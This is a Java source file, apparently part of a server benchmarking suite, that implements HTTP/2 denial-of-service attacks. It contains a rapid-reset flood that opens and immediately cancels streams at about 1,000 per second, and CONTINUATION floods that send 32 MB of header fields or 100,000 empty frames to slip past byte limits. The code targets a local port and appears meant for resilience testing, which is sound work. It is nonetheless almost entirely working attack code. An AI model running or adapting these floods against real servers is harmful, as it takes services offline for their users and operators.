package io.streamgauge.benchmarks.attack;

import io.streamgauge.benchmarks.attack.Volley.Strike;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;

/** Frames of HTTP/2 that cost the sender little. Each goes on until the server has had enough, or for a while. */
final class Http2Attacks {
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;

    private static final int RESETS = 1_000;
    private static final long RESET_INTERVAL_NANOS = TimeUnit.SECONDS.toNanos(1) / RESETS * 8;
    private static final int CONTINUATIONS = 2_000;
    private static final int EMPTY_CONTINUATIONS = 100_000;

    /** As large as a frame may be without having asked for more. */
    private static final byte[] FIELDS = fields(16_384);

    private Http2Attacks() {}

    /** A thousand requests, each taken back at once: eight of these at a time make 1,000 resets a second. */
    static Strike resets(int port) throws IOException {
        try (Http2Socket socket = new Http2Socket(port)) {
            byte[] request = request();
            byte[] cancel = ByteBuffer.allocate(4).putInt(CANCEL).array();
            long due = System.nanoTime();
            for (int i = 0; i < RESETS && socket.isOpen(); i++) {
                socket.send(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request);
                socket.send(RST_STREAM, 0, 2 * i + 1, cancel);
                due += RESET_INTERVAL_NANOS;
                LockSupport.parkNanos(due - System.nanoTime());
            }
            return new Strike(socket.sent(), socket.end());
        }
    }

    /** Fields of a request that go on and on: 32 MB of them. */
    static Strike continuations(int port) throws IOException {
        return unending(port, FIELDS, CONTINUATIONS);
    }

    /** The same with frames that hold nothing, so that no limit of bytes is reached. */
    static Strike emptyContinuations(int port) throws IOException {
        return unending(port, new byte[0], EMPTY_CONTINUATIONS);
    }

    private static Strike unending(int port, byte[] fields, int frames) throws IOException {
        try (Http2Socket socket = new Http2Socket(port)) {
            socket.send(HEADERS, END_STREAM, 1, request());
            for (int i = 0; i < frames && socket.isOpen(); i++) {
                socket.send(CONTINUATION, 0, 1, fields);
            }
            return new Strike(socket.sent(), socket.end());
        }
    }

    /** GET, http, a path and an authority, in HPACK without its tables: RFC 7541, sections 6.1 and 6.2.2. */
    private static byte[] request() {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.write(0x82);
        block.write(0x86);
        put(block, 0x04, "/flood/resets?bytes=0");
        put(block, 0x01, "127.0.0.1");
        return block.toByteArray();
    }

    /** Literal fields with new names. */
    private static byte[] fields(int bytes) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        while (block.size() < bytes - 100) {
            block.write(0);
            putText(block, "x-flood");
            putText(block, "f".repeat(80));
        }
        return block.toByteArray();
    }

    private static void put(ByteArrayOutputStream block, int name, String value) {
        block.write(name);
        putText(block, value);
    }

    private static void putText(ByteArrayOutputStream block, String text) {
        block.write(text.length());
        block.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
    }
}
